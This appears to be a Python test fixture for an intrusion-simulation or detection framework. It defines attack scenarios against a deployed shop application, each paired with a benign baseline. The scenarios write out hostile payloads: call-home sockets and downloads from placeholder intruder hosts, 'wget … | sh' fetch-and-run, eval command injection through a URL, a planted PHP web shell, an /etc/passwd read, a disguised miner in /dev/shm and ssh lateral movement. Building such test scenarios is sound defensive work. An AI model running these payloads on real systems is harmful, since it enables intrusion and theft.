# SPDX-License-Identifier: Apache-2.0
"""What an intruder does on a host that is deployed to: by the application, and by what is pushed."""

import urllib.parse

from intruder import ADDRESS, INTRUDER, SHELL, WEB, define, operator, request


def evaluate(code):
    return lambda host, rng: request(host, f"http://{ADDRESS}:8080/total={urllib.parse.quote(code, safe='')}")


def command(script):
    return evaluate(f"subprocess.run({script!r}, shell=True)")


def push(*extras):
    """What is released does something else as well, once somebody visits it."""
    def attack(host, rng):
        for extra in extras:
            host.workload.push(host, ("router", "mailer"), extra)
            host.wait_for_port(8080)
            host.workload.visit(host, rng, 2)
    return attack


def poisoned(extra):
    """And the next release doesn't."""
    return push(extra, "pass  # mended")


def visit(host, rng):
    host.workload.visit(host, rng, 3)


HOME = f"__import__('socket').create_connection(('{INTRUDER}', {SHELL}), 2).send(b'x')"

define(
    globals(), "deploys",
    ("pushed code calls home", "a poisoned commit", poisoned(HOME), push("pass")),
    ("pushed code fetches", "a poisoned commit, at a port that anyone uses", poisoned(f"__import__('urllib.request').request.urlopen('{WEB}/x').read()"), push("pass  # words")),
    ("pushed code starts a shell", "a poisoned commit", poisoned("subprocess.run('id', shell=True)"), push("pass  # more words")),
    ("deployed application injected", "", command("id; ps ax"), visit),
    ("deployed application phones by a tool", "", command(f"wget -q -O - {WEB}/x | sh"), visit),
    ("deployed application looks at git", "for what others have written", command("git --git-dir=/srv/git/shop.git log -p"), visit),
    ("deployed application forges a release", "", evaluate("open('/srv/shop/shared/queue/x.php', 'w').write('<?php system(\"id\");')"), visit),
    ("deployed application starts php", "", command("php -r 'echo file_get_contents(\"/etc/passwd\");'"), visit),
    ("deployed application mines", "", command("printf '#!/bin/sh\\ni=0; while [ $i -lt 99999 ]; do i=$((i+1)); done' >/dev/shm/kworker; chmod 755 /dev/shm/kworker; /dev/shm/kworker"),
     visit),
    ("deployed application spreads", "by ssh", command(f"ssh -o BatchMode=yes -o StrictHostKeyChecking=no deploy@{ADDRESS} id"), operator("sudo -n systemctl status shop >/dev/null")),
    natures={
        "deployed application forges a release": "the worker takes the file away at once; one that was gone before it was settled is not told of",
    },
)
